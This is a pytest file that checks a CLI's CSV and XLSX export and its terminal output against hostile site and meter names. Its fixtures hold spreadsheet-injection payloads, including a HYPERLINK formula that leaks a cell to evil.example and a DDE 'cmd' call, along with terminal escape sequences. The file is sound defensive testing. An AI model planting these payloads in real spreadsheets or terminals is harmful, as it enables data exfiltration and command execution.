"""Hostile provider text through a whole CLI sync: formulas, quotes, commas, newlines, control
characters, ``../`` and look-alike Unicode in ids and names.

The sandbox serves a portfolio whose ids and names were replaced (``Sandbox(data=...)``); the
export must hold the text exactly (CSV: a leading apostrophe on formula-like cells, OWASP's rule),
the XLSX must hold no formula cell and no control character, the terminal no raw control
character, and a later sync and ``export`` must still succeed.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from scaler_workbench import cli
from scaler_workbench.export import CONTROL_CHARACTERS, neutralise_formula
from scaler_workbench.sandbox import Sandbox
from scaler_workbench.sandbox.generate import SandboxData
from scaler_workbench.store import StateStore

ROOT = Path(__file__).resolve().parent.parent
PROFILE = ROOT / "mappings" / "sandbox" / "profile.toml"

SITE_IDS = {"S001": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "S002": "../S002"}
SITE_NAMES = {
    "S001": "+1+cmd|' /C calc'!A0",
    "S002": 'Ѕite "two", with\nnewline\x07bell @at -minus',  # a Cyrillic Ѕ
}
# meter ids hold no quote: the sandbox writes interval ids into its JSON unescaped (fast path)
METER_IDS = {"M0001": "@M0001", "M0002": "-M0002,q", "M0004": "+M0004"}
METER_NAMES = {"M0001": "=1+1", "M0002": "\ttabbed", "M0004": "\rcarriage \x1b[31mred"}


def _hostile_data() -> SandboxData:
    data = SandboxData.generate(sites=2, meters_per_site=3, start="2024-01-01", end="2024-03-01")
    for site in data.sites:
        old = site["id"]
        site["name"] = SITE_NAMES[old]
        site["id"] = SITE_IDS[old]
        for mapping in (data.site_tz, data.site_currency):
            mapping[site["id"]] = mapping.pop(old)
    data.meter_site = {m: SITE_IDS.get(s, s) for m, s in data.meter_site.items()}
    for meter in data.meters:
        old = meter["id"]
        if old not in METER_IDS:
            continue
        meter["id"], meter["name"] = METER_IDS[old], METER_NAMES[old]
        data.series[meter["id"]] = data.series.pop(old)
        data.meter_site[meter["id"]] = data.meter_site.pop(old)
    return data


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _unapostrophe(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and neutralise_formula(cell[1:]) == cell else cell


def test_hostile_ids_and_names_export_as_text_and_never_block_later_runs(
    make_sandbox: Callable[..., Sandbox],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    sb = make_sandbox(data=_hostile_data())
    for k, v in sb.env().items():
        monkeypatch.setenv(k, v)
    out = tmp_path / "out"
    args = ["sync", str(PROFILE), "--out", str(out), "--until", "2024-03-01"]
    assert cli.main([*args, "--formats", "csv,xlsx"]) == 0, capsys.readouterr().err
    export = out / "export"

    assets = {_unapostrophe(r["external_id"]): r for r in _csv_rows(export / "assets.csv")}
    assert set(assets) == set(SITE_IDS.values())
    for old, new_id in SITE_IDS.items():
        cell = assets[new_id]["name"]
        assert _unapostrophe(cell) == SITE_NAMES[old]  # the text exactly, newline and BEL too
        assert cell == neutralise_formula(SITE_NAMES[old])
    raw = (export / "assets.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in raw and "'+1+cmd" in raw and "\n=" not in raw and ",=" not in raw
    meters = {_unapostrophe(r["external_id"]): r for r in _csv_rows(export / "meters.csv")}
    assert set(METER_IDS.values()) <= set(meters)
    for new_id in METER_IDS.values():
        assert meters[new_id]["external_id"] == neutralise_formula(new_id)
        assert _unapostrophe(meters[new_id]["asset_external_id"]) in SITE_IDS.values()
    usage_meters = {_unapostrophe(r["meter_external_id"]) for r in _csv_rows(export / "usage.csv")}
    assert set(METER_IDS.values()) <= usage_meters  # data fetched for the hostile ids too

    workbook = export / "scaler.xlsx"
    with zipfile.ZipFile(workbook) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml
    wb = openpyxl.load_workbook(workbook)
    texts: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
    assert SITE_IDS["S001"] in texts and METER_IDS["M0001"] in texts  # strings, not formulas
    assert not any(CONTROL_CHARACTERS.search(t) for t in texts)
    assert SITE_NAMES["S002"].replace("\x07", "\ufffd") in texts

    with StateStore(out / "state" / "sandbox.sqlite") as store:
        flagged = store.quarantine(status="open")
    assert "control_characters" in set(flagged["rule"])
    assert set(flagged.loc[flagged["rule"] == "control_characters", "severity"]) == {"warning"}

    console = capsys.readouterr()
    assert cli.main(args) == 0  # a later sync
    assert cli.main(["export", str(PROFILE), "--out", str(out)]) == 0
    later = capsys.readouterr()
    for text in (console.out, console.err, later.out, later.err):
        assert "\x07" not in text and "\x1b" not in text
    assert _csv_rows(export / "assets.csv") == list(csv.DictReader(io.StringIO(raw, newline="")))


def test_csv_apostrophe_rule_and_numbers(tmp_path: Path) -> None:
    cases: dict[str, Any] = {
        "=1+1": "'=1+1",
        "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
        "-cmd": "'-cmd",
        "@SUM(A1)": "'@SUM(A1)",
        "\tx": "'\tx",
        "\rx": "'\rx",
        "-12.5": "-12.5",
        "+3": "+3",
        "-1e-05": "-1e-05",
        "-inf": "-inf",
        "a=b": "a=b",
        "": "",
    }
    for text, want in cases.items():
        assert neutralise_formula(text) == want


def test_an_export_failure_after_the_commit_says_the_state_holds_the_data(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from scaler_workbench import export, sync
    from scaler_workbench.exceptions import ExportError
    from scaler_workbench.profile import read_profile
    from scaler_workbench.sync import export_from_state

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(export, "to_scaler_files", broken)
    monkeypatch.setattr(sync, "to_scaler_files", broken)  # sync binds the name at import
    with StateStore(tmp_path / "state.sqlite") as store, pytest.raises(ExportError) as info:
        export_from_state(store, tmp_path / "export", profile=read_profile(PROFILE))
    text = str(info.value)
    assert "disk on fire" in text and "committed" in text and "scaler-workbench export" in text
    assert "nothing was committed" not in text


def test_terminal_output_shows_control_characters_escaped(
    capsys: pytest.CaptureFixture[str],
) -> None:
    import argparse
    import logging

    assert cli.terminal_text("Site\x07 \x1b[31mred\r\n\tok") == "Site\\x07 \\x1b[31mred\\x0d\n\tok"
    args = argparse.Namespace(debug=False, quiet=False, json=False)
    root = logging.getLogger()
    saved = root.level
    cli._setup_logging(args)
    try:
        logging.getLogger("scaler_workbench.test").warning("site name %s", "Evil\x1b]0;pwned\x07")
    finally:
        root.removeHandler(cli._HANDLER)
        root.setLevel(saved)
    err = capsys.readouterr().err
    assert "Evil\\x1b]0;pwned\\x07" in err and "\x1b" not in err and "\x07" not in err
